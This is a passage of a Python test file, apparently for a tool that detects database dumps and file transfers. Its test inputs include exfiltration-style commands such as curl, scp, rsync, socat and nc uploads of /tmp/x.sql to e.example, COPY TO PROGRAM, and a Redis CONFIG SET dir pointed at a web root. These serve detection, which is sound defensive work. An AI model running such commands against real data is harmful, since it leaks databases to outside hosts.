        ("/usr/local/bin/duckdb", "duckdb file.duckdb -c COPY t TO '/tmp/x.csv'", "COPY TO", "/tmp/x.csv"),
        ("/usr/local/bin/duckdb", "duckdb file.duckdb -c COPY (SELECT * FROM users) TO '/tmp/u.parquet' (FORMAT parquet)",
         "COPY TO", "/tmp/u.parquet"),
        ("/usr/local/bin/duckdb", ["duckdb", "-cmd", ".output /tmp/o.csv", "file.duckdb"], ".output", "/tmp/o.csv"),
        ("/usr/local/bin/duckdb", "duckdb file.duckdb -s .once /tmp/once.csv", ".output", "/tmp/once.csv"),
        ("/usr/local/bin/duckdb", "duckdb -csv file.duckdb .output /tmp/pos.csv", ".output", "/tmp/pos.csv"),
        ("/usr/local/bin/duckdb", "duckdb -init /etc/x.sql file.duckdb -c SELECT 1", "", ""),
        ("/usr/local/bin/duckdb", "duckdb file.duckdb -c .dump", ".dump", ""),
        # no intent
        ("/usr/bin/psql", "psql -h h -c select 1", "", ""),
        ("/usr/bin/mariadb", "mysql -e SHOW PROCESSLIST", "", ""),
        ("/usr/bin/redis-cli", "redis-cli -h r1 info", "", ""),
    ],
)
def test_dump_intent(path: str, cmdline: str | list[str], intent: str, output: str) -> None:
    parsed = db(path, cmdline)
    assert (parsed.dump_intent, parsed.output_path) == (intent, output)


@pytest.mark.parametrize(
    ("text", "intent", "path"),
    [
        ("\\copy users to '/tmp/u.csv' with csv", "\\copy to", "/tmp/u.csv"),
        ("\\COPY users TO /tmp/u.csv;", "\\copy to", "/tmp/u.csv"),
        ("copy users to '/tmp/u.csv';", "COPY TO", "/tmp/u.csv"),
        ("select * from t into outfile '/tmp/t.csv' fields terminated by ','", "INTO OUTFILE", "/tmp/t.csv"),
        ("\\o /tmp/out.txt", "\\o", "/tmp/out.txt"),
        ("select * from users \\g /tmp/g.txt", "\\g", "/tmp/g.txt"),
        ("tee /tmp/session.log", "tee", "/tmp/session.log"),
        (".output /tmp/x.sql", ".output", "/tmp/x.sql"),
        (".backup /tmp/copy.db", ".output", "/tmp/copy.db"),
        ("CONFIG SET dir /var/www/html", "CONFIG SET dir", "/var/www/html"),
        ("BGSAVE", "SAVE", ""),
        ("fs.writeFileSync('/tmp/u.json', JSON.stringify(db.users.find().toArray()))", "writeFile", "/tmp/u.json"),
        ("\\o |gzip > /tmp/x.gz", "\\o program", ""),  # output piped to a program
        ("select * from users \\g |curl -T - https://e.example", "\\g program", ""),
        ("SELECT * FROM users \\g (format=csv) /tmp/u.csv", "\\g", "/tmp/u.csv"),  # psql 16 options
        ("pager cat > /tmp/session.txt", "pager", "/tmp/session.txt"),
        (".once --bom /tmp/a.csv", ".output", "/tmp/a.csv"),
        ("select lo_export(16401, '/tmp/blob.bin')", "lo_export", "/tmp/blob.bin"),
        # a `to` inside a string literal is data, not the target
        ("\\copy (select * from a where b = 'to x') to '/tmp/y.csv'", "\\copy to", "/tmp/y.csv"),
        ("COPY t TO '/tmp/a'; COPY u TO '/tmp/b'", "COPY TO", "/tmp/a"),
        ("COPY t TO PROGRAM 'gzip > /tmp/t.gz'", "COPY TO PROGRAM", ""),
        ("EXPORT INTO CSV 'nodelocal://1/users' FROM TABLE users", "EXPORT INTO", "nodelocal://1/users"),
        (":out /tmp/sqlcmd.txt", ":out", "/tmp/sqlcmd.txt"),
    ],
)
def test_sql_dump_intent(text: str, intent: str, path: str) -> None:
    found = sql_dump_intent(text)
    assert found is not None and (found.intent, found.path) == (intent, path)


@pytest.mark.parametrize(
    "text",
    ["", "select * from users", "copy users from '/tmp/u.csv'", "\\copy t from stdin", "SHOW TABLES",
     "select 1 into @v", ".once -x", "pager less", "select pg_read_file('/etc/hostname')",
     "select 'copy x to y'"],
)
def test_sql_without_dump_intent(text: str) -> None:
    assert sql_dump_intent(text) is None


# ---------------------------------------------------------------------------
# Transfers


@pytest.mark.parametrize(
    ("cmdline", "files", "dests", "upload"),
    [
        ("curl -T /tmp/x.sql https://e.example/up", ("/tmp/x.sql",), ("e.example",), True),
        ("curl --upload-file /tmp/x.sql ftp://e.example/", ("/tmp/x.sql",), ("e.example",), True),
        ("curl -T/tmp/x.sql https://e.example", ("/tmp/x.sql",), ("e.example",), True),
        ("curl -F file=@/tmp/x.sql https://e.example/up", ("/tmp/x.sql",), ("e.example",), True),
        ("curl -F file=@/tmp/x.sql;type=text/plain https://e.example/up", ("/tmp/x.sql",), ("e.example",), True),
        ("curl -d @/tmp/x.sql https://e.example", ("/tmp/x.sql",), ("e.example",), True),
        ("curl -d@/tmp/x.sql https://e.example", ("/tmp/x.sql",), ("e.example",), True),
        ("curl --data-binary @/tmp/x.sql https://e.example", ("/tmp/x.sql",), ("e.example",), True),
        ("curl -X POST -H Content-Type: -d a=1 https://e.example", (), ("e.example",), True),
        ("curl -s -o /tmp/page.html https://e.example/", (), ("e.example",), False),
        ("curl -u bob:pw https://user:pw@[2001:db8::1]:8443/x", (), ("2001:db8::1",), False),
        ("wget --post-file=/tmp/x.sql http://e.example", ("/tmp/x.sql",), ("e.example",), True),
        ("wget --post-file /tmp/x.sql http://e.example", ("/tmp/x.sql",), ("e.example",), True),
        ("wget -q -O - http://e.example/x.sh", (), ("e.example",), False),
        ("scp /tmp/x.sql bob@e.example:/in/", ("/tmp/x.sql",), ("e.example",), True),
        ("scp -P 2222 -i /root/.ssh/id /tmp/x.sql e.example:", ("/tmp/x.sql",), ("e.example",), True),
        ("scp e.example:/etc/motd /tmp/", ("/tmp/",), ("e.example",), False),
        ("rsync -az /tmp/x.sql bob@e.example:/in/", ("/tmp/x.sql",), ("e.example",), True),
        ("rsync -e ssh /tmp/d/ e.example:/in/", ("/tmp/d/",), ("e.example",), True),
        ("sftp bob@e.example", (), ("e.example",), False),
        ("sftp -P 2222 bob@e.example:/in", (), ("e.example",), False),
        ("nc e.example 4444", (), ("e.example",), False),
        ("nc -q 1 e.example 4444", (), ("e.example",), False),
        ("nc -w 3 203.0.113.9 80-90", (), ("203.0.113.9",), False),
        ("nc -l 4444", (), (), False),
        ("ncat --send-only e.example 443", (), ("e.example",), False),
        ("tar czf /tmp/x.tgz /tmp/x.sql", ("/tmp/x.tgz", "/tmp/x.sql"), (), False),
        ("tar -czf /tmp/x.tgz /tmp/x.sql", ("/tmp/x.tgz", "/tmp/x.sql"), (), False),
        ("tar cf - /var/backups", ("/var/backups",), (), False),
        ("aws s3 cp /tmp/x.sql s3://bucket/x", ("/tmp/x.sql",), ("bucket",), True),
        ("aws --region eu-west-1 s3 cp /tmp/x.sql s3://bucket/x", ("/tmp/x.sql",), ("bucket",), True),
        ("socat OPEN:/tmp/x.sql TCP:e.example:443", ("/tmp/x.sql",), ("e.example",), True),
        ("socat -u FILE:/tmp/x.sql,rdonly TCP4:203.0.113.9:443", ("/tmp/x.sql",), ("203.0.113.9",), True),
        ("openssl enc -aes-256-cbc -in /tmp/x.sql -out /tmp/x.enc -pass pass:pw", ("/tmp/x.sql",), (), False),
        ("openssl s_client -connect e.example:443 -quiet", (), ("e.example",), False),
        ("gzip -9 /tmp/x.sql", ("/tmp/x.sql",), (), False),
        ("split -b 10M /tmp/x.sql /tmp/part.", ("/tmp/x.sql", "/tmp/part."), (), False),
        ("base64 /tmp/x.sql", ("/tmp/x.sql",), (), False),
        ("rclone copy /tmp/x.sql remote:bucket", ("/tmp/x.sql",), ("remote",), True),
        ("gsutil cp /tmp/x.sql gs://bucket/", ("/tmp/x.sql",), ("bucket",), True),
        ("aws s3 cp s3://bucket/x.sql /tmp/", ("/tmp/",), ("bucket",), False),  # a download
        ("aws s3 ls s3://bucket/", (), ("bucket",), False),
        ("s3cmd put /tmp/x.sql s3://bucket/", ("/tmp/x.sql",), ("bucket",), True),
        ("gcloud storage cp /tmp/x.sql gs://bucket/", ("/tmp/x.sql",), ("bucket",), True),
        ("azcopy copy /tmp/x.sql https://acct.blob.core.windows.net/c", ("/tmp/x.sql",), ("acct.blob.core.windows.net",), True),
    ],
)
def test_transfer(cmdline: str, files: tuple[str, ...], dests: tuple[str, ...], upload: bool) -> None:
    argv = cmdline.split()
    parsed = parse_transfer_command("/usr/bin/" + argv[0], argv)
    assert parsed is not None
    assert (parsed.files, parsed.destinations, parsed.upload) == (files, dests, upload)


def test_transfer_kind_and_tool() -> None:
    parsed = parse_transfer_command("/usr/bin/tar", ["tar", "czf", "a.tgz", "b"])
    assert parsed is not None and (parsed.tool, parsed.kind) == ("tar", "staging")
    parsed = parse_transfer_command("/usr/bin/curl", ["curl", "https://e.example"])
    assert parsed is not None and (parsed.tool, parsed.kind) == ("curl", "transfer")
    assert parse_transfer_command("/usr/bin/ls", ["ls", "/tmp"]) is None
    assert parse_transfer_command("/usr/bin/psql", ["psql", "-h", "x"]) is None


def test_transfer_stops_at_shell_separator() -> None:
    parsed = parse_transfer_command("/usr/bin/curl", "curl https://e.example ; rm /tmp/x.sql".split())
    assert parsed is not None and parsed.files == () and parsed.destinations == ("e.example",)


def test_transfer_extra_tools_from_config() -> None:
    table = catalog.transfer_tools_with_extras(("croc",))
    parsed = parse_transfer_command("/usr/local/bin/croc", ["croc", "send", "/tmp/x.sql"], table)
    assert parsed is not None and parsed.kind == "transfer" and "/tmp/x.sql" in parsed.files
    assert parse_transfer_command("/usr/local/bin/croc", ["croc", "send", "/tmp/x.sql"]) is None


# ---------------------------------------------------------------------------
# Paths


@pytest.mark.parametrize(
    ("path", "cwd", "expected"),
    [
        ("/tmp/x.sql", "/home/a", "/tmp/x.sql"),
        ("x.sql", "/home/a", "/home/a/x.sql"),
        ("./out/../x.sql", "/home/a", "/home/a/x.sql"),
        ("../../../etc/x", "/home/a", "/etc/x"),
        ("'/tmp/q.csv'", "/", "/tmp/q.csv"),
        ("/tmp//a/./b.sql", "", "/tmp/a/b.sql"),
        ("x.sql", "", "x.sql"),  # cwd unknown: left relative
        ("x.sql", "relative/cwd", "x.sql"),
        ("~/x.sql", "/home/a", "~/x.sql"),
        ("-", "/home/a", ""),  # stdout
        ("", "/home/a", ""),
    ],
)
def test_resolve_path(path: str, cwd: str, expected: str) -> None:
    assert resolve_path(path, cwd) == expected


@pytest.mark.parametrize(
    "name",
    ["1" * 100_000 + "x", "python" + "3" * 100_000 + "x", "." * 100_000 + "a", "/" * 100_000, "a b" * 33_000],
    ids=["digits", "python333", "dots", "slashes", "spaced"],
)
def test_crafted_100kb_program_names_complete(name: str) -> None:
    # `re.sub(r"[\d.]+$", ...)` on such an argv[0] was quadratic (about a minute at 100 KB);
    # no timing assertion: finishing is the test
    assert parse_db_command(name, [name, "-h", "x"]) is None
    assert parse_transfer_command(name, [name]) is None
    assert real_program(name, [name, name]).name != "psql"


@pytest.mark.parametrize("option", ["-d@/tmp/x.sql", "-T/tmp/x.sql", "-Ff=@/tmp/x.sql"])
def test_many_attached_curl_values_complete(option: str) -> None:
    # each attached value used to rebuild the whole argv tuple: quadratic, 9 s for 30,000
    parsed = parse_transfer_command("/usr/bin/curl", ["curl", *[option] * 30_000, "https://e.example"])
    assert parsed is not None and parsed.upload and len(parsed.files) == 30_000
    assert parsed.destinations == ("e.example",)
